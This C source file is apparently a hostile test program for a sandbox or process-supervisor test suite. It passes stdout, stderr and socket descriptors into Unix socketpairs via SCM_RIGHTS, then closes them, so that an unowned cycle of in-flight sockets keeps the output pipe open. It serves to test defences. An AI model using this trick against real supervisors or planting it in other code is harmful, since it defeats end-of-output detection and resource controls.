// Attacks: the end of the output: its pipe is kept open by a cycle of sockets in flight that nobody owns.
#include "../hostile.h"
static void send_fd(int to, int fd) {
  char byte = 'x', room[CMSG_SPACE(sizeof fd)] = {0};
  struct iovec vector = {&byte, 1};
  struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
  struct cmsghdr *head = CMSG_FIRSTHDR(&message);
  head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS, head->cmsg_len = CMSG_LEN(sizeof fd);
  memcpy(CMSG_DATA(head), &fd, sizeof fd);
  sendmsg(to, &message, MSG_DONTWAIT);
}
int main(void) {
  for (int i = 0; i < 20; i++) {
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends) != 0) break;
    send_fd(ends[0], 1), send_fd(ends[0], 2), send_fd(ends[0], ends[0]), send_fd(ends[0], ends[1]);
    send_fd(ends[1], ends[0]), send_fd(ends[1], 1);
    close(ends[0]), close(ends[1]);
  }
  return 0;
}
